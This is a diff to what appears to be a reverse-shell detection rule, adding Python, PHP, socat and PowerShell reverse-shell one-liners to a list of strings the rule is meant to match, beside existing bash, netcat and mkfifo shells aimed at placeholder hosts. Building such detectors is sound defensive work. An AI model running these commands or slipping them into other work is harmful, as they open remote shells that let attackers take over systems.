@@ -38,6 +38,11 @@ export default defineRule({
     /net\.sockets\.tcpclient\([^\n]{0,240}\biex\b/,
   ],
   match: [
+    "s=socket.socket();s.connect(('203.0.113.9',4444));subprocess.call(['/bin/sh'])",
+    "import pty; pty.spawn('/bin/bash')",
+    "$s=fsockopen('203.0.113.9',4444);exec('/bin/sh <&3')",
+    'socat tcp:203.0.113.9:4444 exec:/bin/sh',
+    "$c=New-Object Net.Sockets.TCPClient('203.0.113.9',4444); iex $d",
     'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
     'nc 203.0.113.7 9001 -e /bin/sh',
     'rm f;mkfifo f;cat f|sh -i 2>&1|nc a.example 80 >f',
